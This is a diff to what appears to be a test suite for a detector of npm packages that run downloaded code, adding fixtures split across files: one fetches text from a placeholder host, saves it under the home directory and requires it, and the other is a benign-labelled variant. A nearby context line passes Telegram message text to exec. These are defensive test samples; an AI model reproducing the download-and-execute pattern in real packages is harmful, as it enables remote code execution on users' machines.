@@ -6,6 +6,15 @@ const hook = { name: 'specimen', version: '1.0.0', scripts: { postinstall: 'node
 examine(runsDownloadedCode, {
   speaks: [
     {
+      when: 'one file saves a download in a folder that is known, and another starts what is there',
+      files: {
+        'index.js': `require('./save'); require('./start').start(process.argv[2])`,
+        'save.js': `const fs = require('fs'), path = require('path'), os = require('os'); exports.save = async name => fs.writeFileSync(path.join(os.homedir(), '.inert', name), await (await fetch('https://a.invalid/x')).text())`,
+        'start.js': `const path = require('path'), os = require('os'); exports.start = name => require(path.join(os.homedir(), '.inert', name))`,
+      },
+      weight: 'strong',
+    },
+    {
       when: 'a download is kept in one of several folders of settings and started at once',
       files: {
         'package.json': { name: 'inert', version: '1.0.0', scripts: { postinstall: 'node build.js' } },
@@ -390,6 +399,15 @@ const bot = new Telegraf('x'); bot.on('text', context => exec(context.message.te
     },
   ],
   silent: [
+    {
+      when: 'one file saves a download below a folder it is told, and another loads something below one it is told',
+      files: {
+        'package.json': { name: 'specimen', version: '1.0.0', bin: 'b.js' },
+        'b.js': `require('./save').save(process.argv[2], process.argv[3]); require('./load').load(process.argv[4], process.argv[5])`,
+        'save.js': `const fs = require('fs'), path = require('path'); exports.save = async (folder, name) => fs.writeFileSync(path.join(folder, 'server', name), await (await fetch('https://a.invalid/page')).text())`,
+        'load.js': `const path = require('path'); exports.load = (folder, name) => require(path.join(folder, 'server', name))`,
+      },
+    },
     {
       when: 'what is asked for is the version that a program is kept under',
       files: {
